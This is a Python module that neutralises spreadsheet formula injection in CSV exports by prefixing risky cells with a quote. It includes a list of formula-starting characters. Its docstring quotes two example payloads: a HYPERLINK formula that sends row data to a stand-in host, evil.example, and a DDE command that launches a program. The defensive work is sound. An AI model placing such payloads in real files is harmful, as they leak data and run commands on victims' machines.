"""CSV for spreadsheets: the one rule for cells a spreadsheet program would run as a formula, and the one writer.

Excel, LibreOffice Calc and Google Sheets read a CSV cell that starts with `=`, `+`, `-` or `@` (Excel also after a
tab or a carriage return) as a formula: `=HYPERLINK("https://evil.example/?"&A2, "…")` sends the row away, and
`=cmd|' /C calc'!A0` (DDE) starts a program. Claim text, claimants, tags, units and article titles come from
imported files and reviewers' typing, so any of them may start that way. OWASP's advice, followed here, is to
prefix such a cell with a single quote, which spreadsheets read as "this cell is text".

Every CSV we write goes through `SpreadsheetWriter` (tests/hardening/test_csv_writers.py holds that no code
calls csv.writer itself). The rule is for CSV only: JSON, NDJSON and the API return text exactly as stored.
"""

from __future__ import annotations

import csv

# The characters that start a formula, and every character whose compatibility form (NFKC) starts with one of them:
# the full-width ＝ ＋ － ＠ that Chinese input methods type, and their small, superscript and subscript forms
# (tests/test_spreadsheet.py derives this set from Unicode and holds the two equal). Tab, carriage return and NUL
# are the other leading characters OWASP and the ASVS name.
FORMULA_STARTS = frozenset(
    "=+-@"
    "\uff1d\uff0b\uff0d\uff20"  # ＝ ＋ － ＠ full-width
    "\ufe66\ufe62\ufe63\ufe6b"  # ﹦ ﹢ ﹣ ﹫ small
    "\u207c\u207a\u208c\u208a"  # ⁼ ⁺ ₌ ₊ superscript and subscript
    "\u2a75\u2a76\ufb29"  # ⩵ ⩶ (== and ===), Hebrew alternative plus
)
_LEADING_CONTROLS = frozenset("\t\r\x00")
_WHITESPACE = frozenset(c for c in map(chr, range(0x3001)) if c.isspace())  # U+3000 is the last of them
# A cell's first character, if it is one of these, is worth a closer look; most cells' is not (the fast path).
_LOOK_CLOSER = FORMULA_STARTS | _LEADING_CONTROLS | _WHITESPACE


def spreadsheet_safe(text: str) -> str:
    """`text` with a `'` in front if a spreadsheet would read it as a formula, else `text` unchanged.

    A formula character after leading whitespace counts too (" =1+1", "\u3000＝1"): LibreOffice can trim
    spaces on import, and a cell prefixed needlessly costs one visible quote, where one missed runs a formula.
    """
    if not text:
        return text
    first = text[0]
    if first in FORMULA_STARTS or first in _LEADING_CONTROLS:
        return "'" + text
    if first.isspace() and text.lstrip()[:1] in FORMULA_STARTS:
        return "'" + text
    return text


class SpreadsheetWriter:
    """`csv.writer(file)` whose text cells go through spreadsheet_safe; numbers and None are written as they are.

    `text_columns`, when the caller knows them, are the indices of the columns that may hold someone's text: only
    those are looked at (an export writes a million rows, most of whose cells are numbers, times and choices).
    Without it every str cell is.
    """

    def __init__(self, file, *, text_columns: list[int] | None = None, **fmtparams):
        self._writer = csv.writer(file, **fmtparams)
        self._text_columns = text_columns

    def writerow(self, row):
        look = _LOOK_CLOSER  # most cells start with none of these: one set lookup, no call
        if self._text_columns is None:
            return self._writer.writerow(
                [spreadsheet_safe(v) if isinstance(v, str) and v[:1] in look else v for v in row]
            )
        row = list(row)
        for i in self._text_columns:
            value = row[i]
            if isinstance(value, str) and value[:1] in look:
                row[i] = spreadsheet_safe(value)
        return self._writer.writerow(row)

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
